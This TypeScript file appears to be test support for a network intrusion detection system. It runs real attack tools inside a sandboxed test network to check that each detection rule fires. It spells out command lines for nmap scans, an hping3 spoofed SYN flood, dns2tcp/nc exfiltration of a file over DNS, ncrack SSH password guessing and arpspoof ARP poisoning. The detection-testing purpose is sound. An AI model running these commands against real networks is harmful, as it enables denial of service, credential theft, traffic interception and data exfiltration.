/** Attack tools as people run them, each from a host of its own in a network that the test made; bounded in count and time. */
import { randomBytes } from 'node:crypto';
import { statSync, writeFileSync } from 'node:fs';
import { type CommandResult, sleep, until } from '../support/command.ts';
import type { TemporaryFolder } from '../support/temporary-folder.ts';
import type { Network } from './namespaces.ts';
import { listening } from './services.ts';
import { HOST_DEVICE } from './switched-network.ts';

/** Addresses of all hosts. `desk` is who is lied to about the gateway. */
export const HOSTS = {
  gateway: '10.77.0.1',
  server: '10.77.0.3',
  desk: '10.77.0.4',
  syn: '10.77.0.11',
  connect: '10.77.0.12',
  udp: '10.77.0.13',
  arp: '10.77.0.14',
  icmp: '10.77.0.15',
  flood: '10.77.0.16',
  tunnel: '10.77.0.17',
  guess: '10.77.0.18',
  spoof: '10.77.0.19',
} as const;

/** Nobody's network, reached through the gateway and never answered. */
const ELSEWHERE = '10.78.0.0/26';
/** Nothing listens there: the server refuses. */
const CLOSED_PORT = 81;
const TUNNEL_DOMAIN = 't.example.com';
const TUNNEL_PORT = 2222;
const DROP_PORT = 7000;
const SECRET_BYTES = 8192;
const DEADLINE = { timeoutMs: 20_000 };

/** Where attacks happen, and a folder for their files. */
export interface Stage {
  network: Network;
  folder: TemporaryFolder;
}

export interface Attack {
  title: string;
  commands: readonly string[];
  /** The rule that has to see it. */
  kind: string;
  /** Other rules that are right about it too. */
  companions: readonly string[];
  /** The source of its alerts, or their target where the source is invented. */
  about: string;
  /**
   * Seconds for which the rule waits for answers before it decides: 1 where failed attempts count. They are told in the
   * order in which they were made, so that one without an answer holds back refused ones behind it, also of others.
   */
  answerWait: 0 | 1;
  run(stage: Stage): Promise<unknown>;
}

async function nmap({ network }: Stage, space: string, args: string[]): Promise<CommandResult> {
  return network.mustRun(space, 'nmap', ['-n', '-T4', '--max-retries', '0', ...args], DEADLINE);
}

/** 5000 SYNs from as many invented addresses; hping3 ends with 1 when nobody answered it. */
async function flood({ network }: Stage): Promise<void> {
  const args = ['-q', '-S', '-p', String(CLOSED_PORT), '-c', '5000', '-i', 'u200', '--rand-source', HOSTS.server];
  const { stdout, stderr } = await network.run('flood', 'hping3', args, DEADLINE);
  if (!(stdout + stderr).includes('5000 packets transmitted')) throw new Error(`hping3: ${stdout}${stderr}`);
}

/** A file that leaves through TXT questions to a name server on the gateway. */
async function tunnel({ network, folder }: Stage): Promise<void> {
  const settings = { listen: HOSTS.gateway, port: 53, user: 'root', chroot: folder.path, domain: TUNNEL_DOMAIN };
  const lines = Object.entries({ ...settings, resources: `drop:127.0.0.1:${DROP_PORT}` }).map(([name, value]) => `${name} = ${value}\n`);
  writeFileSync(folder.file('dns2tcpd.conf'), lines.join(''));
  writeFileSync(folder.file('secret'), randomBytes(SECRET_BYTES));
  const dropped = folder.file('dropped');
  const drop = network.start('gateway', 'sh', ['-c', `nc -l 127.0.0.1 ${DROP_PORT} >${dropped}`]);
  const server = network.start('gateway', 'dns2tcpd', ['-F', '-d', '1', '-f', folder.file('dns2tcpd.conf')]);
  await listening(network, 'gateway', [DROP_PORT], [drop]);
  await until('dns2tcpd', () => (server.stdout + server.stderr).includes('Listening on'));
  const client = network.start('tunnel', 'dns2tcpc', ['-z', TUNNEL_DOMAIN, '-r', 'drop', '-l', String(TUNNEL_PORT), HOSTS.gateway]);
  await listening(network, 'tunnel', [TUNNEL_PORT], [client]);
  // Without an end of its own: dns2tcp drops what it still holds when its user hangs up.
  network.start('tunnel', 'sh', ['-c', `(cat ${folder.file('secret')}; sleep 20) | nc 127.0.0.1 ${TUNNEL_PORT}`]);
  await until('the file at the other end', () => statSync(dropped).size === SECRET_BYTES, DEADLINE.timeoutMs);
}

/** sshd takes six guesses of a connection: enough for twenty connections. */
async function guess({ network, folder }: Stage): Promise<void> {
  const words = folder.file('words');
  writeFileSync(words, Array.from({ length: 120 }, (_, index) => `password${index}\n`).join(''));
  await network.mustRun('guess', 'ncrack', ['--user', 'root', '-P', words, '-g', 'to=10s', `ssh://${HOSTS.server}:22`], DEADLINE);
}

/** Three lies, two seconds apart. At an orderly end arpspoof would put things right: it is killed. */
async function spoof({ network }: Stage): Promise<void> {
  const liar = network.start('spoof', 'arpspoof', ['-i', HOST_DEVICE, '-t', HOSTS.desk, HOSTS.gateway]);
  await until('the third ARP reply of arpspoof', () => liar.stderr.split('arp reply').length > 3);
  await sleep(100);
  await liar.stop('SIGKILL');
}

const TCP_SCAN = { commands: ['nmap'], kind: 'vertical_scan', companions: ['port_scan'], answerWait: 1 } as const;

export const ATTACKS: readonly Attack[] = [
  { ...TCP_SCAN, title: 'nmap -sS', about: HOSTS.syn, run: (stage) => nmap(stage, 'syn', ['-sS', '-p', '1-200', HOSTS.server]) },
  { ...TCP_SCAN, title: 'nmap -sT', about: HOSTS.connect, run: (stage) => nmap(stage, 'connect', ['-sT', '-p', '1-200', HOSTS.server]) },
  {
    title: 'nmap -sU',
    commands: ['nmap'],
    kind: 'udp_scan',
    companions: [],
    about: HOSTS.udp,
    answerWait: 1,
    run: (stage) => nmap(stage, 'udp', ['-sU', '-p', '1-60', HOSTS.server]),
  },
  {
    title: 'nmap -sn of its own network',
    commands: ['nmap'],
    kind: 'arp_scan',
    companions: [],
    about: HOSTS.arp,
    answerWait: 1,
    run: (stage) => nmap(stage, 'arp', ['-sn', '10.77.0.0/24']),
  },
  {
    title: 'nmap -sn -PE of another network',
    commands: ['nmap'],
    kind: 'icmp_sweep',
    companions: [],
    about: HOSTS.icmp,
    answerWait: 1,
    run: (stage) => nmap(stage, 'icmp', ['-sn', '-PE', ELSEWHERE]),
  },
  {
    title: 'hping3 -S --rand-source',
    commands: ['hping3'],
    kind: 'syn_flood',
    companions: [],
    about: `${HOSTS.server}:${CLOSED_PORT}`,
    answerWait: 1,
    run: flood,
  },
  {
    title: 'a file through dns2tcp',
    commands: ['dns2tcpc', 'dns2tcpd', 'nc'],
    kind: 'dns_tunnel',
    companions: [],
    about: HOSTS.tunnel,
    answerWait: 0,
    run: tunnel,
  },
  {
    title: 'ncrack at sshd',
    commands: ['ncrack', 'sshd'],
    kind: 'brute_force',
    companions: [],
    about: HOSTS.guess,
    answerWait: 0,
    run: guess,
  },
  { title: 'arpspoof', commands: ['arpspoof'], kind: 'arp_spoof', companions: [], about: HOSTS.gateway, answerWait: 0, run: spoof },
];
